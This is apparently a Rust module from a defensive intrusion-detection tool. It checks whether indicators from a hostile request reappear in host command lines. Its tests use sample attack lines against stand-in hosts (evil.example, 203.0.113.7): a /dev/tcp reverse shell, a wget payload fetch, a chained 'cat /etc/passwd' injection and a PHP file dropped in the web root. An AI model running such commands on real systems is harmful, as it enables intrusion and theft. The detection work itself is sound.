//! Indicator echo: what a request said that reappears on the host. In: indicators of a verdict, and the surface of a finding
//! (command lines below the service, peers, names looked up). Out: the echoes, each marked distinctive or common.
//!
//! A common word (`id`, `/etc/passwd`, a metadata address that every SDK asks) proves nothing by itself; it counts only while
//! its request is in flight, which the caller checks.

use std::collections::BTreeMap;
use std::net::IpAddr;

use crate::evidence::{HostFinding, Placement};
use crate::incident::Echo;
use crate::metadata;
use crate::request::Indicator;

/// Most words of one finding's command lines that are compared; a command line is bounded at 4 KiB, its lineage at 16 nodes.
const WORDS_MAX: usize = 1024;
/// Indicators of one request that are compared; a hostile line may name endless ones.
const INDICATORS_MAX: usize = 16;
/// Shortest word that is distinctive alone: shorter ones occur in honest command lines too.
const DISTINCTIVE_WORD: usize = 10;
/// Shortest file path that is distinctive.
const DISTINCTIVE_PATH: usize = 8;

/// Words of commands that intruders and honest scripts share.
const COMMON_WORDS: &[&str] = &[
    "bash", "cat", "cd", "chmod", "cmd", "cp", "curl", "cut", "dash", "date", "echo", "env", "exec", "false", "find",
    "grep", "head", "hostname", "id", "ifconfig", "ip", "ls", "mkdir", "mv", "nc", "netstat", "nslookup", "perl",
    "php", "ping", "printenv", "printf", "ps", "pwd", "python", "python3", "rm", "sed", "set", "sh", "sleep", "tail",
    "test", "touch", "true", "uname", "wget", "whoami", "zsh",
];

/// Directories whose files every system has: naming one is no proof.
const COMMON_DIRECTORIES: &[&str] =
    &["/bin/", "/sbin/", "/usr/bin/", "/usr/sbin/", "/usr/local/bin/", "/proc/", "/dev/", "/etc/"];

/// What a finding shows that a request may have said before.
#[derive(Clone, Debug, Default)]
pub(super) struct Surface {
    /// Words of the command lines, lower case, in order.
    words: Vec<String>,
    /// Addresses named or reached, with where.
    addresses: BTreeMap<IpAddr, String>,
    /// Host names named or looked up, with where.
    hosts: BTreeMap<String, String>,
    /// The first command line, for the sentence.
    shown: String,
}

impl Surface {
    /// Of a process and its ancestors up to the service, which is what a request can have brought about: the service's own
    /// command line was there before.
    pub(super) fn of(place: &Placement) -> Self {
        let mut surface = Self::default();
        let service = place.service.as_ref().map(|service| service.process);
        for node in place.lineage.iter().take_while(|node| Some(node.process) != service).take(8) {
            // Ancestors of a process without a known service reach up to init: only what has its parent's company is new.
            if service.is_none() && !surface.words.is_empty() {
                break;
            }
            surface.read(&node.command_line);
        }
        surface
    }

    /// Adds what a metadata finding reached.
    pub(super) fn with_finding(mut self, finding: &HostFinding) -> Self {
        if let HostFinding::Metadata { endpoint, role, .. } = finding {
            self.addresses.insert(metadata::canonical(endpoint.ip()), format!("the endpoint {endpoint}"));
            self.words.extend(role.iter().map(|role| role.to_lowercase()));
        }
        self
    }

    /// Adds a peer and the name it was reached by.
    pub(super) fn with_peer(mut self, peer: std::net::SocketAddr, name: Option<&str>) -> Self {
        self.addresses.insert(metadata::canonical(peer.ip()), format!("the peer {peer}"));
        if let Some(name) = name {
            self.hosts.insert(host_form(name), format!("the name {name}"));
        }
        self
    }

    fn read(&mut self, command_line: &str) {
        if self.shown.is_empty() {
            command_line.clone_into(&mut self.shown);
        }
        for word in words(command_line) {
            if self.words.len() == WORDS_MAX {
                return;
            }
            for part in word.split(['/', '@', '?', '#', '=']) {
                if let Some(address) = address_of(part) {
                    self.addresses.entry(address).or_insert_with(|| command_line.to_owned());
                } else if let Some(host) = host_of(part) {
                    self.hosts.entry(host).or_insert_with(|| command_line.to_owned());
                }
            }
            self.words.push(word);
        }
    }

    /// What of `indicators` reappears here, in the indicators' order.
    pub(super) fn echoes(&self, indicators: &[Indicator]) -> Vec<Echo> {
        indicators.iter().take(INDICATORS_MAX).filter_map(|indicator| self.echo(indicator)).collect()
    }

    fn echo(&self, indicator: &Indicator) -> Option<Echo> {
        let (seen_in, distinctive) = match indicator {
            Indicator::Address(address) => self.address(*address)?,
            Indicator::Host(host) => self.host(host)?,
            Indicator::Url(url) => self.url(url)?,
            Indicator::Command(command) => self.command(command)?,
            Indicator::Path(path) => self.path(path)?,
        };
        Some(Echo { indicator: indicator.clone(), seen_in, distinctive })
    }

    fn address(&self, address: IpAddr) -> Option<(String, bool)> {
        let address = metadata::canonical(address);
        let seen = self.addresses.get(&address)?;
        let common = address.is_loopback()
            || address.is_unspecified()
            || metadata::ENDPOINTS.iter().any(|endpoint| endpoint.address == address);
        Some((seen.clone(), !common))
    }

    fn host(&self, host: &str) -> Option<(String, bool)> {
        let host = host_form(host);
        let below =
            |name: &str| name.strip_suffix(host.as_str()).is_some_and(|rest| rest.is_empty() || rest.ends_with('.'));
        let (_, seen) = self.hosts.iter().find(|(name, _)| below(name))?;
        Some((seen.clone(), host.contains('.')))
    }

    fn url(&self, url: &str) -> Option<(String, bool)> {
        let lower = url.to_lowercase();
        if self.words.iter().any(|word| *word == lower || (lower.len() >= DISTINCTIVE_WORD && word.contains(&lower))) {
            return Some((self.shown.clone(), true));
        }
        let authority = lower.split_once("://")?.1.split(['/', '?', '#']).next()?;
        let authority = authority.rsplit('@').next()?;
        address_of(authority)
            .map_or_else(|| host_of(authority).and_then(|host| self.host(&host)), |address| self.address(address))
    }

    fn command(&self, command: &str) -> Option<(String, bool)> {
        let said: Vec<String> = words(command).take(WORDS_MAX).collect();
        let telling: Vec<&String> = said.iter().filter(|word| !is_common(word)).collect();
        if telling.is_empty() {
            let contiguous = !said.is_empty() && self.words.windows(said.len()).any(|window| window == said);
            return contiguous.then(|| (self.shown.clone(), false));
        }
        let mut rest = self.words.iter();
        let in_order = telling.iter().all(|word| rest.any(|seen| seen == *word));
        let distinctive = telling.len() >= 2 || telling.iter().any(|word| word.len() >= DISTINCTIVE_WORD);
        in_order.then(|| (self.shown.clone(), distinctive))
    }

    fn path(&self, path: &str) -> Option<(String, bool)> {
        let path = path.to_lowercase();
        let found = path.len() > 3 && self.words.iter().any(|word| word.ends_with(path.as_str()));
        let common = path.len() < DISTINCTIVE_PATH || COMMON_DIRECTORIES.iter().any(|start| path.starts_with(start));
        found.then(|| (self.shown.clone(), !common))
    }
}

/// Words as a shell would roughly cut them, lower case; URL and path punctuation stays inside a word.
fn words(text: &str) -> impl Iterator<Item = String> {
    let cut = |c: char| c.is_whitespace() || c.is_control() || "\"'`;|&<>(){}[]$,\\".contains(c);
    text.split(cut).filter(|word| !word.is_empty()).map(str::to_lowercase)
}

fn is_common(word: &str) -> bool {
    let name = word.rsplit('/').next().unwrap_or(word);
    word.len() < 3 || word.starts_with('-') || COMMON_WORDS.binary_search(&name).is_ok()
}

fn address_of(text: &str) -> Option<IpAddr> {
    let bare = text.trim_start_matches('[');
    let bare = bare.split(']').next().unwrap_or(bare);
    bare.parse().ok().or_else(|| bare.split(':').next()?.parse().ok()).map(metadata::canonical)
}

/// A host name with at least one dot and an alphabetic last label; a port is dropped.
fn host_of(text: &str) -> Option<String> {
    let name = text.split(':').next()?;
    let (_, last) = name.trim_end_matches('.').rsplit_once('.')?;
    let plain = name.bytes().all(|byte| byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'.' | b'_'));
    (plain && last.len() >= 2 && last.bytes().all(|byte| byte.is_ascii_alphabetic())).then(|| host_form(name))
}

fn host_form(name: &str) -> String {
    name.trim_end_matches('.').to_lowercase()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn surface(command_line: &str) -> Surface {
        let mut surface = Surface::default();
        surface.read(command_line);
        surface
    }

    #[test]
    fn common_words_are_sorted_for_the_search() {
        assert!(COMMON_WORDS.is_sorted(), "{:?}", {
            let mut sorted = COMMON_WORDS.to_vec();
            sorted.sort_unstable();
            sorted
        });
    }

    #[test]
    fn what_reappears_is_found_and_weighed() {
        let check = |indicator: Indicator, command_line: &str, expected: Option<bool>| {
            let echo = surface(command_line).echo(&indicator).map(|echo| echo.distinctive);
            assert_eq!(echo, expected, "{indicator:?} in {command_line}");
        };
        let address = |text: &str| Indicator::Address(text.parse().expect("address"));
        let host = |text: &str| Indicator::Host(text.into());
        let url = |text: &str| Indicator::Url(text.into());
        let command = |text: &str| Indicator::Command(text.into());
        let path = |text: &str| Indicator::Path(text.into());

        check(address("203.0.113.7"), "sh -c curl http://203.0.113.7/x", Some(true));
        check(address("203.0.113.7"), "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", Some(true));
        check(address("203.0.113.7"), "curl http://203.0.113.70/x", None);
        check(address("2001:db8::7"), "curl http://[2001:db8::7]:8080/x", Some(true));
        check(address("169.254.169.254"), "curl http://169.254.169.254/latest/", Some(false));
        check(host("Evil.Example"), "wget -q http://evil.example/a.sh", Some(true));
        check(host("evil.example"), "ping -c1 x9f2.evil.example", Some(true));
        check(host("evil.example"), "wget http://notevil.example/", None);
        check(url("http://evil.example/a.sh"), "sh -c wget http://evil.example/a.sh", Some(true));
        check(url("http://evil.example/a.sh"), "curl -s EVIL.example", Some(true));
        check(command("cat /srv/app/secret.key"), "sh -c cat /srv/app/secret.key", Some(true));
        check(command("id"), "sh -c id", Some(false));
        check(command("id"), "sh -c idle", None);
        check(command("whoami"), "ls -l", None);
        check(command("cat /etc/passwd"), "sh -c ping 127.0.0.1;cat /etc/passwd", Some(true));
        check(path("/etc/passwd"), "cat /etc/passwd", Some(false));
        check(path("/var/www/html/x7.php"), "sh -c echo hi > /var/www/html/x7.php", Some(true));
        check(path("/x"), "sh -c /x", None);
    }
}
